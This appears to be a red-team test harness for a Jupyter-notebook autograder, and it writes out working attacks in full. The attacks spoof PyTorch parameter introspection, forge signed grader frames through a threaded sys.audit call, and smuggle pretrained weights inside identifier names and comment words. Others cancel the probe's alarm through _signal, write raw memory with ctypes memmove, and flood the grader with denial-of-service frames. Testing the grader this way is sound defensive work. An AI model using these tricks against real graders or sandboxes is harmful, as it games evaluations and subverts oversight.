"""Round 3 red-team reproducers: hostile notebooks made from the solutions, graded in the sandbox.

    PYTHONPATH=$PWD .venv/bin/python -m bench.redteam.round3.attacks [ROOT] [--only NAME ...]

Each attack changes one thing in a solution notebook; ``deserved`` is what an honest grader
gives the attacked questions (the answer is wrong, or a control). The table printed says
HOLE when a wrong answer got more than it deserved, LOST when an honest one got less.
Results of the runs: RESULTS.md next to this file.
"""
from __future__ import annotations

import argparse
import csv
import subprocess
import sys
import tempfile
from pathlib import Path


REPO = Path(__file__).resolve().parents[3]
sys.path.insert(0, str(REPO / "tests"))
import grading_students as S  # noqa: E402 - tests/ is put on sys.path just above


def _sol(assignment):
    return S.load(assignment, "solutions")


def replace_cell_holding(nb, marker: str, source: str):
    """Replace the (first) code cell whose source holds ``marker`` (06 has three PatchEmbedding cells)."""
    for cell in nb.cells:
        if cell.cell_type == "code" and marker in cell.source:
            cell.source = source
            return nb
    raise AssertionError(f"no cell holds {marker!r}")


# ----------------------------------------------------------------------------------------- q5
# Q5 with nn.Linear projection used WITHOUT transpose (x @ W + b): a wrong answer (the layer's
# weight is (out, in)). It scores 0 as it is; the attacks make the probe report the projection's
# parameters as "raw" (not owned by an nn.Linear), and the judge then tries W transposed.

MHA_TEMPLATE = '''
class MultiHeadAttention(nn.Module):
    def __init__(self, emb_size=768, num_heads=8, dropout=0.0):
        super().__init__()
        self.emb_size, self.num_heads = emb_size, num_heads
        self.qkv = nn.Linear(emb_size, emb_size * 3)
        self.att_drop = nn.Dropout(dropout)
        self.projection = nn.Linear(emb_size, emb_size)

    def forward(self, x, mask=None):
        qkv = rearrange(self.qkv(x), "b n (qkv h d) -> qkv b h n d", h=self.num_heads, qkv=3)
        queries, keys, values = qkv[0], qkv[1], qkv[2]
        energy = torch.einsum("bhqd, bhkd -> bhqk", queries, keys)
        if mask is not None:
            energy = energy.masked_fill(mask == 0, -1e9)
        scaling = (self.emb_size // self.num_heads) ** 0.5
        att = F.softmax(energy / scaling, dim=-1)
        att = self.att_drop(att)
        out = torch.einsum("bhal, bhlv -> bhav", att, values)
        out = rearrange(out, "b h n d -> b n (h d)")
        return out @ self.projection.weight + self.projection.bias      # WRONG: no transpose
{extra}

mha = MultiHeadAttention(emb_size=16, num_heads=4)
print(mha(torch.randn(2, 5, 16)).shape)
'''

MHA_WRONG = MHA_TEMPLATE.format(extra="")

# the probe finds each parameter's owner with module.get_submodule(name): the class overrides it
MHA_GET_SUBMODULE = MHA_TEMPLATE.format(extra='''
    def get_submodule(self, target):
        if target == "projection":
            raise AttributeError(target)      # the probe then takes the owner to be this module: "raw"
        return super().get_submodule(target)''')

# the probe lists parameters with module.named_parameters(): the class names the projection's
# weight and bias as its own (top-level) parameters
MHA_NAMED_PARAMETERS = MHA_TEMPLATE.format(extra='''
    def named_parameters(self, prefix="", recurse=True, remove_duplicate=True):
        for name, p in super().named_parameters(prefix, recurse, remove_duplicate):
            yield name.replace("projection.", "projection_"), p''')

# ----------------------------------------------------------------------------------------- q3/q4
# A frozen class token (requires_grad=False: it never trains) must lose q3 and q4 (their float64
# cases ask for the class token's gradient). The attacks freeze it except while probed.

PE_Q3_TEMPLATE = '''
class PatchEmbedding(PatchEmbeddingQ2):   # extends your Q2 class
    def __init__(self, in_channels=3, patch_size=16, emb_size=768):
        super().__init__(in_channels, patch_size, emb_size)
        self.cls_token = nn.Parameter(torch.randn(1, 1, emb_size), requires_grad=False)    # WRONG: frozen

    def forward(self, x):
{detect}
        b = x.shape[0]
        x = self.projection(x)
        cls_tokens = repeat(self.cls_token, "() n e -> b n e", b=b)
        x = torch.cat([cls_tokens, x], dim=1)
        return x


PatchEmbeddingQ3 = PatchEmbedding
print(PatchEmbedding(3, 4, 32)(torch.randn(2, 3, 32, 32)).shape)
'''

PE_FROZEN = PE_Q3_TEMPLATE.format(detect="        pass")
# the probe tags every module it builds with an attribute (_autograder_record = its index)
PE_MARKER = PE_Q3_TEMPLATE.format(detect='''\
        if "_autograder_record" in self.__dict__:          # built by the checker's probe
            self.cls_token.requires_grad_(True)''')
# the probe builds modules in eval mode (module.train(False)); training runs in train mode
PE_EVAL = PE_Q3_TEMPLATE.format(detect='''\
        self.cls_token.requires_grad_(not self.training)''')

# The token stays frozen in every mode (never trained, whoever trains the model), but the probe
# is shown a fresh leaf that does require grad: the probe asks the module itself which tensors are
# its parameters (module.named_parameters(), after the forward) and takes the gradients of those.
PE_SHADOW_TEMPLATE = '''
class PatchEmbedding(PatchEmbeddingQ2):   # extends your Q2 class
    def __init__(self, in_channels=3, patch_size=16, emb_size=768):
        super().__init__(in_channels, patch_size, emb_size)
        self.cls_token = nn.Parameter(torch.randn(1, 1, emb_size), requires_grad=False)    # WRONG: frozen

    def forward(self, x):
        b = x.shape[0]
        x = self.projection(x)
        live = self.cls_token.detach().clone().requires_grad_()     # a new leaf every call: never trained
{keep}
        cls_tokens = repeat(live, "() n e -> b n e", b=b)
        x = torch.cat([cls_tokens, x], dim=1)
        return x
{extra}

PatchEmbeddingQ3 = PatchEmbedding
print(PatchEmbedding(3, 4, 32)(torch.randn(2, 3, 32, 32)).shape)
'''

PE_SHADOW_NAMED = PE_SHADOW_TEMPLATE.format(keep="        self.__dict__['_live'] = live", extra='''
    def named_parameters(self, prefix="", recurse=True, remove_duplicate=True):
        for name, p in super().named_parameters(prefix, recurse, remove_duplicate):
            yield name, (self.__dict__["_live"] if name.endswith("cls_token") and "_live" in self.__dict__ else p)''')
# the same without overriding any method: the module's own parameter table holds the new leaf
PE_SHADOW_DICT = PE_SHADOW_TEMPLATE.format(keep="        self._parameters[\"cls_token\"] = live", extra="")

# ----------------------------------------------------------------------------------------- MAC oracle
# guard.sign's audit event signs data when no frame of the student's code is on the stack. A
# thread whose target is sys.audit itself has none (threading.py's frames, then C): it signs
# anything. In the probe's fork the answer writes its own signed frame to fd 3, then points fd 3
# at /dev/null so the probe's real frame never reaches the grader.

FORGE_HELPERS = r'''
import io, json, os, struct, sys, threading
import numpy as np


def _sign(message):
    out = []
    worker = threading.Thread(target=sys.audit, args=("autograder.guard.sign", message, out))
    worker.start()
    worker.join()
    return out[0] if out else None


def _signed_frame(qid, tree, arrays):
    buffer = io.BytesIO()
    np.savez(buffer, **arrays)
    blob = buffer.getvalue()
    header = {"event": "result", "qid": qid, "tree": tree}
    header["mac"] = _sign(json.dumps(header, sort_keys=True, allow_nan=True).encode() + b"\0" + blob)
    head = json.dumps(header).encode()
    return struct.pack(">I", len(head)) + head + struct.pack(">I", len(blob)) + blob


_SENT = []


def _forge(qid, tree, arrays=None):
    """Once per probe (each probe is a fresh fork): send our frame, silence the probe's."""
    if _SENT:
        return
    _SENT.append(qid)
    os.write(3, _signed_frame(qid, tree, arrays or {"a0": np.zeros(1)}))
    os.dup2(os.open("/dev/null", os.O_WRONLY), 3)
'''

WRONG_HEAD = '''
class AttentionHead(nn.Module):
    def __init__(self, dim, head_dim):
        super().__init__()
        self.query = nn.Linear(dim, head_dim)
        self.key = nn.Linear(dim, head_dim)
        self.value = nn.Linear(dim, head_dim)

    def forward(self, x, mask=None):
{body}
        q, k = self.query(x), self.key(x)
        return scaled_dot_product_attention(q, k, k, mask)      # keys used as values: wrong
'''

HEAD_FORGE_FATAL = WRONG_HEAD.format(body='''\
        _forge("attention_head", {"qid": "attention_head", "fatal": "FORGED-BY-THE-NOTEBOOK", "cases": []})''')


# ----------------------------------------------------------------------------------------- 09_training
# A FashionViT trained offline (pretrain.py: longer than the exercise's minute, on 60,000 images),
# int8, carried in the notebook as identifier NAMES (w0001_<hex> = None): the embedded-data flag
# counts literals and comments, not names. train_vit trains nothing: it decodes the weights,
# learns the run's class renumbering from the labels it is given (a confusion matrix of its own
# predictions on the training images) and permutes the head's rows. The host's clock sees ~1 s.

SMUGGLED_BIN = Path("/tmp/red3/vit_int8.bin")
NAME_CHUNK = 4000           # hex characters per identifier


CELL_NAMES = 20             # identifiers per cell (the preflight allows 100 KB of source in a cell)


def smuggled_cells(blob: bytes) -> tuple[list[str], str]:
    text = blob.hex()
    names = [f"w{i:04d}_{text[start:start + NAME_CHUNK]} = None"
             for i, start in enumerate(range(0, len(text), NAME_CHUNK))]
    carriers = ["\n".join(names[i:i + CELL_NAMES]) + "\n" for i in range(0, len(names), CELL_NAMES)]
    train = '''
import numpy as np


def train_vit(images, labels, seconds=60):
    """Train a FashionViT on images uint8 (N, 1, 28, 28) and labels int64 (N,) for at most
    `seconds` of wall-clock time; return the trained model."""
    names = sorted(k for k in globals() if k[:1] == "w" and k[1:5].isdigit() and k[5:6] == "_")
    blob = bytes.fromhex("".join(k[6:] for k in names))
    model = FashionViT()
    state, pos = {}, 0
    for name, value in model.state_dict().items():
        scale = np.frombuffer(blob[pos:pos + 4], dtype=np.float32)[0]
        n = value.numel()
        q = np.frombuffer(blob[pos + 4:pos + 4 + n], dtype=np.int8).astype(np.float32)
        state[name] = torch.from_numpy(q * scale).reshape(value.shape)
        pos += 4 + n
    model.load_state_dict(state)
    model.eval()
    with torch.no_grad():
        pred = torch.cat([model(images[i:i + 500]).argmax(-1) for i in range(0, len(images), 500)])
    counts = torch.zeros(10, 10)
    counts.index_put_((pred, labels), torch.ones(len(labels)), accumulate=True)
    order = counts.argmax(1)                   # the class the model calls k is numbered order[k] here
    with torch.no_grad():
        weight, bias = model.head.weight.clone(), model.head.bias.clone()
        model.head.weight[order] = weight
        model.head.bias[order] = bias
    return model
'''
    return carriers, train


def smuggled(nb):
    if not SMUGGLED_BIN.exists():
        raise SystemExit(f"run bench.redteam.round3.pretrain {SMUGGLED_BIN} first")
    carriers, train = smuggled_cells(SMUGGLED_BIN.read_bytes())
    S.replace_definition(nb, "train_vit", train)
    for carrier in carriers:
        S.insert_cell(nb, carrier, before_name="train_vit")
    return nb


# The same weights as PROSE in comments: one letters-only four-letter word per byte (the
# embedded-data flag counts a comment's words that hold a digit, a hex run of 8 or more, or more
# than 24 characters: none of these). train_vit reads its own notebook (the code cells the
# sandbox hands it, comments kept) from the working folder.
_SYLLABLES = [c + v for c in "bghjklmnprstvwz" for v in "aiouy"]
WORDS = [a + b for a in _SYLLABLES for b in _SYLLABLES][:256]
PROSE_LINE, PROSE_CELL = 100, 160          # words per comment line, lines per cell (< 100 KB)

PROSE_TRAIN = """
import glob, json
import numpy as np

WORDS = [a + b for a in [c + v for c in "bghjklmnprstvwz" for v in "aiouy"]
         for b in [c + v for c in "bghjklmnprstvwz" for v in "aiouy"]][:256]


def train_vit(images, labels, seconds=60):
    code = {w: i for i, w in enumerate(WORDS)}
    own = json.load(open(glob.glob("*.ipynb")[0]))
    text = [line[9:] for cell in own["cells"] for line in "".join(cell["source"]).splitlines()
            if line.startswith("# notes: ")]
    blob = bytes(code[w] for line in text for w in line.split())
    model = FashionViT()
    state, pos = {}, 0
    for name, value in model.state_dict().items():
        scale = np.frombuffer(blob[pos:pos + 4], dtype=np.float32)[0]
        n = value.numel()
        q = np.frombuffer(blob[pos + 4:pos + 4 + n], dtype=np.int8).astype(np.float32)
        state[name] = torch.from_numpy(q * scale).reshape(value.shape)
        pos += 4 + n
    model.load_state_dict(state)
    model.eval()
    with torch.no_grad():
        pred = torch.cat([model(images[i:i + 500]).argmax(-1) for i in range(0, len(images), 500)])
    counts = torch.zeros(10, 10)
    counts.index_put_((pred, labels), torch.ones(len(labels)), accumulate=True)
    order = counts.argmax(1)
    with torch.no_grad():
        weight, bias = model.head.weight.clone(), model.head.bias.clone()
        model.head.weight[order] = weight
        model.head.bias[order] = bias
    return model
"""


def prose_cells(blob: bytes) -> list[str]:
    words = [WORDS[b] for b in blob]
    lines = ["# notes: " + " ".join(words[i:i + PROSE_LINE]) for i in range(0, len(words), PROSE_LINE)]
    return ["\n".join(lines[i:i + PROSE_CELL]) + "\npass\n" for i in range(0, len(lines), PROSE_CELL)]


def smuggled_prose(nb):
    if not SMUGGLED_BIN.exists():
        raise SystemExit(f"run bench.redteam.round3.pretrain {SMUGGLED_BIN} first")
    S.replace_definition(nb, "train_vit", PROSE_TRAIN)
    for cell in prose_cells(SMUGGLED_BIN.read_bytes()):
        S.insert_cell(nb, cell, before_name="train_vit")
    return nb


# ----------------------------------------------------------------------------------------- the job
# Frames the host reads without a MAC: "inputs" (the zygote's Feed queues a full copy of the held
# training data, ~8 MB, for EVERY request, in the zygote's own memory) and "cells" (the driver
# walks its timed_out list with `index not in skip` on a list: quadratic, in the grading worker).

FEED_BLOAT = r'''
import json, os, struct
_head = json.dumps({{"event": "inputs"}}).encode()
os.write(3, (struct.pack(">I", len(_head)) + _head + struct.pack(">I", 0)) * {count})
'''

SKIP_DOS = r'''
import json, os, struct
_head = json.dumps({{"event": "cells", "count": 1, "errors": [], "timed_out": list(range(1000, 1000 + {count}))}}).encode()
os.write(3, struct.pack(">I", len(_head)) + _head + struct.pack(">I", 0))
'''


# ----------------------------------------------------------------------------------------- probe budget
# A right head that needs 8 s on its first call (the probe's budget is 5 s at --timeout 30). The
# probe's alarm is cancelled through _signal (the scan flags `signal`, not `_signal`; `import _signal`
# raises no audit event: the module is loaded already), and the parent's wait is ended early by
# writing "1" on the fork's ready pipe (any writable fd but 3): the parent then waits for the fork
# with no deadline of its own (only the run's).
SLOW_BODY = """\
        import os, time
        if not _SLOW and os.getpid() != _MAIN:        # the first call in a probe's fork
            _SLOW.append(1)
{unlock}
            time.sleep(8)"""
UNLOCK = """\
            import _signal
            _signal.setitimer(_signal.ITIMER_REAL, 0)
            for fd in range(4, 64):
                try:
                    os.write(fd, b"1")
                except OSError:
                    pass"""


# ----------------------------------------------------------------------------------------- ctypes
# ctypes without the word: numpy.ctypeslib.ctypes (the scan flags ctypes/_ctypes/cffi as the first
# name of a path only). ctypes.memmove and memset raise no audit event at all (from_address,
# string_at... do, and the hook refuses them to student frames, though not to a thread whose target
# is the ctypes function itself): memmove reads and writes any address, called directly or from a
# thread. The head is right only if the write happened (in the probe's fork).
CTYPES_BODY = """\
        import threading
        ct = np.ctypeslib.ctypes
        a, b = np.zeros(4), np.arange(1.0, 5.0)
        worker = threading.Thread(target=ct.memmove, args=(a.__array_interface__["data"][0],
                                                          b.__array_interface__["data"][0], 32))
        worker.start()
        worker.join()
        if not (a == b).all():
            raise RuntimeError("the write did not happen")"""


def attacks():
    """name -> (assignment, build() -> notebook, {qid: deserved score} for the attacked questions)."""
    out = {}

    def add(name, assignment, deserved, edit):
        out[name] = (assignment, lambda: edit(_sol(assignment)), deserved)

    add("honest04", "04_multihead_attention", {}, lambda nb: nb)
    add("q5_wrong_plain", "04_multihead_attention", {"q5": 0.0},
        lambda nb: S.replace_definition(nb, "MultiHeadAttention", MHA_WRONG))
    add("q5_get_submodule", "04_multihead_attention", {"q5": 0.0},
        lambda nb: S.replace_definition(nb, "MultiHeadAttention", MHA_GET_SUBMODULE))
    add("q5_named_params", "04_multihead_attention", {"q5": 0.0},
        lambda nb: S.replace_definition(nb, "MultiHeadAttention", MHA_NAMED_PARAMETERS))
    add("honest06", "06_patch_embedding", {}, lambda nb: nb)
    frozen = {"q3": 0.0, "q4": 0.0}
    add("q34_frozen_plain", "06_patch_embedding", frozen,
        lambda nb: replace_cell_holding(nb, "self.cls_token = nn.Parameter", PE_FROZEN))
    add("q34_frozen_marker", "06_patch_embedding", frozen,
        lambda nb: replace_cell_holding(nb, "self.cls_token = nn.Parameter", PE_MARKER))
    add("q34_frozen_eval", "06_patch_embedding", frozen,
        lambda nb: replace_cell_holding(nb, "self.cls_token = nn.Parameter", PE_EVAL))
    add("q34_shadow_named", "06_patch_embedding", frozen,
        lambda nb: replace_cell_holding(nb, "self.cls_token = nn.Parameter", PE_SHADOW_NAMED))
    add("q34_shadow_dict", "06_patch_embedding", frozen,
        lambda nb: replace_cell_holding(nb, "self.cls_token = nn.Parameter", PE_SHADOW_DICT))
    add("honest03", "03_attention", {}, lambda nb: nb)

    def forge_fatal(nb):
        S.insert_cell(nb, FORGE_HELPERS)
        return S.replace_definition(nb, "AttentionHead", HEAD_FORGE_FATAL)
    # deserved 0 either way: the proof is the reason text (FORGED-BY-THE-NOTEBOOK, not "came from the
    # notebook's own code")
    add("head_forge_fatal", "03_attention", {"attention_head": 0.0}, forge_fatal)
    for name, unlock in (("slow_head_plain", "            pass"), ("slow_head_unlocked", UNLOCK)):
        # deserved: 0 (the answer needs more than the probe's budget), unlocked or not
        add(name, "03_attention", {"attention_head": 0.0},
            lambda nb, unlock=unlock: S.insert_cell(
                S.replace_definition(nb, "AttentionHead", S.head_with_forward(SLOW_BODY.format(unlock=unlock))),
                "import os\n_SLOW, _MAIN = [], os.getpid()"))
    # the same write called directly (meant as the control: the hook does not see memmove either)
    direct = CTYPES_BODY.replace("worker = threading.Thread(target=ct.memmove, args=(", "ct.memmove(*(").replace(
        "        worker.start()\n        worker.join()\n", "")
    add("ctypes_direct_write", "03_attention", {},
        lambda nb: S.insert_cell(S.replace_definition(nb, "AttentionHead", S.head_with_forward(direct)),
                                 "import numpy as np"))
    add("ctypes_thread_write", "03_attention", {},
        lambda nb: S.insert_cell(S.replace_definition(nb, "AttentionHead", S.head_with_forward(CTYPES_BODY)),
                                 "import numpy as np"))
    add("smuggled_vit", "09_training", {"train_to_accuracy": 0.0}, smuggled)
    add("smuggled_prose", "09_training", {"train_to_accuracy": 0.0}, smuggled_prose)
    # the deserved score of an attacker that only hurts itself: what it gets (no HOLE); the victims are
    # what counts (graded after it, by the same job)
    add("aaa_feed_bloat", "09_training", {"train_to_accuracy": 4.0},
        lambda nb: S.insert_cell(nb, FEED_BLOAT.format(count=200)))
    for count in (0, 20_000, 40_000, 80_000):
        add(f"dos_skip_{count // 1000}k", "02_positional_encoding", {},
            lambda nb, count=count: S.insert_cell(nb, SKIP_DOS.format(count=count)))
    add("zzz_victim06", "06_patch_embedding", {}, lambda nb: nb)
    return out


def build(root: Path, names) -> dict:
    table = attacks()
    chosen = {n: table[n] for n in (names or table)}
    for name, (assignment, make, _) in chosen.items():
        S.write(make(), root, name, assignment)
    return chosen


def grade(root: Path, jobs: int = 1, timeout: int = 30, memory: int | None = None) -> subprocess.CompletedProcess:
    cmd = [sys.executable, "-m", "autograder", "grade", str(root), "--jobs", str(jobs), "--timeout", str(timeout),
           "--no-progress"] + (["--memory", str(memory)] if memory else [])
    return subprocess.run(cmd, capture_output=True, text=True, cwd=REPO)


def report(root: Path, chosen: dict) -> list[tuple]:
    import autograder
    with open(root / "grades.csv", newline="", encoding="utf-8") as fh:
        rows = {(r["student"], r["assignment"], r["question"]): r for r in csv.DictReader(fh)}
    lines = []
    for name, (assignment, _, deserved) in chosen.items():
        for q in autograder.questions(assignment):
            row = rows.get((name, assignment, q.id))
            got = float(row["score"]) if row else None
            want = deserved.get(q.id, float(q.points))
            held = "held" if row and "held for review" in row.get("reason", "") else ""
            verdict = "missing row" if row is None else ("HOLE" if got > want else "ok" if got == want else "LOST")
            lines.append((name, q.id, got, want, verdict, held, (row or {}).get("reason", "")[:160]))
    return lines


def main(argv=None):
    parser = argparse.ArgumentParser()
    parser.add_argument("root", nargs="?")
    parser.add_argument("--only", nargs="*")
    parser.add_argument("--jobs", type=int, default=1)
    parser.add_argument("--timeout", type=int, default=30)
    parser.add_argument("--memory", type=int, default=None)
    args = parser.parse_args(argv)
    root = Path(args.root or tempfile.mkdtemp(prefix="redteam3-"))
    chosen = build(root, args.only)
    proc = grade(root, args.jobs, args.timeout, args.memory)
    if proc.returncode:
        print(proc.stdout[-3000:], proc.stderr[-3000:])
    print(f"root: {root}")
    for line in report(root, chosen):
        print("%-18s %-20s got %-5s deserved %-5s %-5s %-4s %s" % line)


if __name__ == "__main__":
    main()
